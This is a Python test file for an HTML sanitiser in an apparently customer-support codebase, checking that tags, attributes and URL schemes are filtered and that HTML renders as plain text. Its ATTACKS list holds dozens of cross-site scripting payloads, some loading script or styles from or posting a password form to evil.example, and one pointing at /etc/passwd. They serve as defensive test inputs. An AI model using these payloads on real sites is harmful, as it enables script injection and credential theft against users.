from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from supportd.conversations import richtext

# What operators, or who took over their inbox, could try.
ATTACKS = [
    "<script>alert(1)</script>",
    "<p>x<script src=//evil.example/x.js></script></p>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<p onclick=alert(1)>x</p>",
    "<p onmouseover='alert(1)'>x</p>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\x0a=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src=x srcset='https://evil.example/1 1x'>",
    "<img src='file:///etc/passwd'>",
    "<img src='https://a.example/a.png' style='position:fixed;top:0'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='intent://evil#Intent;scheme=x;end'>x</a>",
    "<a href='https://a.example' target=_blank onfocus=alert(1) autofocus>x</a>",
    "<a href='https://a.example' style='background:url(javascript:alert(1))'>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<form action='//evil.example'><input name=password><button>x</button></form>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div id=app data-bind='x' class='overlay'>x</div>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<p>x</p><!-- comment --><?php echo 1 ?>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p>unclosed <b>and <i>nested</p>",
]

# The contract's list, and the `rel` that we add.
TAGS = {"p", "br", "a", "b", "strong", "i", "em", "u", "ul", "ol", "li", "code", "pre", "blockquote", "img"}
ATTRIBUTES = {"a": {"href", "rel"}, "img": {"src", "alt"}}


class Reader(HTMLParser):
    """Everything in some HTML that isn't text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.other: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_is_left(attack: str) -> None:
    clean = richtext.sanitised(attack)
    read = Reader(clean)
    assert read.other == []
    for tag, attributes in read.tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set())
        for name in {"href", "src"} & set(attributes):
            assert urlsplit((attributes[name] or "").strip()).scheme in ("http", "https", "mailto", "")
    assert richtext.sanitised(clean) == clean


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_has_no_tags_either(attack: str) -> None:
    assert "<" not in richtext.as_text(attack)


@pytest.mark.parametrize(
    "good",
    [
        "<p>A <b>b</b> <strong>c</strong> <i>d</i> <em>e</em> <u>f</u><br>g</p>",
        "<ul><li>one</li></ul><ol><li>two</li></ol>",
        "<pre><code>x = 1 &lt; 2</code></pre><blockquote>q</blockquote>",
        '<img src="https://a.example/a.png" alt="A chart">',
        "<p>Fish &amp; chips: 1 &lt; 2, привет 👋</p>",
    ],
)
def test_formatting_stays_as_it_is(good: str) -> None:
    assert richtext.sanitised(good) == good


@pytest.mark.parametrize("target", ["https://a.example/x?y=1", "http://a.example", "mailto:help@a.example"])
def test_links_stay_and_tell_nothing_of_us(target: str) -> None:
    assert richtext.sanitised(f'<a href="{target}">x</a>') == (
        f'<a href="{target}" rel="noopener noreferrer nofollow">x</a>'
    )


def test_what_is_unknown_loses_its_tag_and_keeps_its_words() -> None:
    assert richtext.sanitised('<div class="x"><h2>Title</h2><p class="no-margin">Text</p></div>') == "Title<p>Text</p>"


def test_huge_html_is_cut() -> None:
    assert len(richtext.sanitised("<p>" + "x" * 300_000)) < 201_000
    assert len(richtext.as_text("<p>" + "x" * 300_000)) < 201_000


@pytest.mark.parametrize(
    ("html", "text"),
    [
        pytest.param("<p>Hello</p>", "Hello", id="a paragraph"),
        pytest.param("<p>One</p><p>Two</p>", "One\n\nTwo", id="paragraphs"),
        pytest.param("<p>One</p>\n\n<p>Two</p>", "One\n\nTwo", id="white space between paragraphs"),
        pytest.param("<p>One</p><p></p><p><br></p><p>Two</p>", "One\n\nTwo", id="empty paragraphs"),
        pytest.param("<p>One<br>Two</p>", "One\nTwo", id="a line break"),
        pytest.param("<p>One<br>\n Two</p>", "One\nTwo", id="white space after a line break"),
        pytest.param("<p>a  b\n\tc</p>", "a b c", id="white space is folded"),
        pytest.param("<p>a <b>b</b> c<i>d</i></p>", "a b cd", id="inline tags"),
        pytest.param("<h2>Title</h2><p>Text</p>", "Title\n\nText", id="a heading"),
        pytest.param("<ul><li>One</li><li>Two</li></ul>", "- One\n- Two", id="a list"),
        pytest.param("<p>See</p><ol><li>One</li></ol><p>End</p>", "See\n\n- One\n\nEnd", id="a list among paragraphs"),
        pytest.param("<p>See <a href='https://a.example'>this</a>.</p>", "See this (https://a.example).", id="a link"),
        pytest.param("<a href='https://a.example'>https://a.example</a>", "https://a.example", id="a bare link"),
        pytest.param("<a href='mailto:h@a.example'>h@a.example</a>", "h@a.example", id="a mail address"),
        pytest.param("<a href='mailto:h@a.example'>Mail us</a>", "Mail us (h@a.example)", id="a mail link"),
        pytest.param("<a href='javascript:x'>this</a>", "this", id="a link that is none"),
        pytest.param("<p>1 &lt; 2 &amp;&amp; 3 &gt; 2 &nbsp;&quot;</p>", '1 < 2 && 3 > 2 "', id="entities"),
        pytest.param("<pre>a\n  b</pre>", "a\n  b", id="pre keeps its white space"),
        pytest.param("<p>x</p><pre>a\n  b</pre><p>a\n  b</p>", "x\n\na\n  b\n\na b", id="and only pre does"),
        pytest.param("<p><img src='https://a.example/x.png' alt='A chart'></p>", "[A chart]", id="an image"),
        pytest.param("<p><img src='https://a.example/x.png'></p>", "[image]", id="an image without a name"),
        pytest.param("<blockquote>You said</blockquote><p>Yes</p>", "You said\n\nYes", id="a quotation"),
        pytest.param("<table><tr><td>a</td></tr><tr><td>b</td></tr></table>", "a\n\nb", id="a table"),
        pytest.param("<style>p{}</style><p>x</p>", "x", id="styles aren't text"),
        pytest.param("", "", id="nothing"),
        pytest.param("<p></p>", "", id="an empty paragraph"),
        pytest.param("<p>unclosed <b>tags", "unclosed tags", id="unclosed tags"),
    ],
)
def test_as_text(html: str, text: str) -> None:
    rendered = richtext.as_text(html)
    assert " ".join(rendered.replace("\n", "|").split()) == " ".join(text.replace("\n", "|").split())


@pytest.mark.parametrize(
    ("body", "html"),
    [
        ("<p>Hello</p>", True),
        ('<p class="no-margin">Hello</p>', True),
        ("\n <DIV>x</DIV>", True),
        ("<h2>x</h2>", True),
        ("<ul><li>x</li></ul>", True),
        ('<img src="x">', True),
        ("<br>", True),
        ("Hello", False),
        ("", False),
        ("1 < 2 and <p> is a tag", False),
        ("<b>x</b>", False),
        ("<pear>", False),
        ("<https://a.example>", False),
    ],
)
def test_html_begins_with_a_block(body: str, html: bool) -> None:
    assert richtext.is_html(body) is html


@pytest.mark.parametrize(
    ("clean", "plain"),
    [("<p>x</p>", True), ("<p>x<br>y</p><p>z</p>", True), ("<p><b>x</b></p>", False), ("<ul><li>x</li></ul>", False)],
)
def test_plain_is_paragraphs_and_line_breaks(clean: str, plain: bool) -> None:
    assert richtext.is_plain(clean) is plain


def test_names_are_unescaped_and_white_space_squeezed() -> None:
    assert richtext.unescaped("X&amp;Y&#39;s") == "X&Y's"
    assert richtext.squeezed(" a \n\t b ") == "a b"


@pytest.mark.parametrize("address", ["/account/delete", "next", "//tracker.example/pixel.png", "?q=1"])
def test_addresses_without_a_scheme_are_dropped(address: str) -> None:
    clean = richtext.sanitised(f'<p><a href="{address}">here</a><img src="{address}"></p>')
    assert address not in clean
